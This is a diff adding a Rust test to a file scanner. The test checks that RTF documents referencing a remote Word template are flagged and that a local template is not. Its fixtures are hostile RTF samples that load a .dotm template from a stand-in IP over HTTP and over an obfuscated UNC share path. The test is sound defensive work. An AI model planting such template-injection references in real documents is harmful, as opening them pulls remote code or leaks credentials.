@@ -83,3 +83,19 @@ fn an_object_alone_is_flagged_and_images_and_text_are_clean() {
     );
     assert_clean(&scan("pretty.rtf", rtf.into_bytes()));
 }
+
+/// RTF template injection: Word fetches `{\*\template ...}` from another
+/// machine as the document opens; a local template is ordinary.
+#[test]
+fn a_remote_template_is_flagged_and_a_local_one_is_not() {
+    for rtf in [
+        &b"{\\rtf1\\ansi{\\*\\template http://203.0.113.7/t.dotm}{\\fonttbl{\\f0 Arial;}}\\f0 Hello\\par}"[..],
+        b"{\\rtf1{\\*\\template \\'5c\\'5c203.0.113.7{\\*\\x y}\\\\share\\\\t.dotm}Hello\\par}",
+    ] {
+        let r = scan("letter.rtf", rtf.to_vec());
+        assert!(has_key(&r, "document.remote_template"), "{:?}", keys(&r));
+        assert_ne!(r.verdict, Verdict::Clean);
+    }
+    let local = b"{\\rtf1{\\*\\template C:\\\\Users\\\\me\\\\Templates\\\\Normal.dotm}Hello\\par}";
+    assert_clean(&scan("letter.rtf", local.to_vec()));
+}
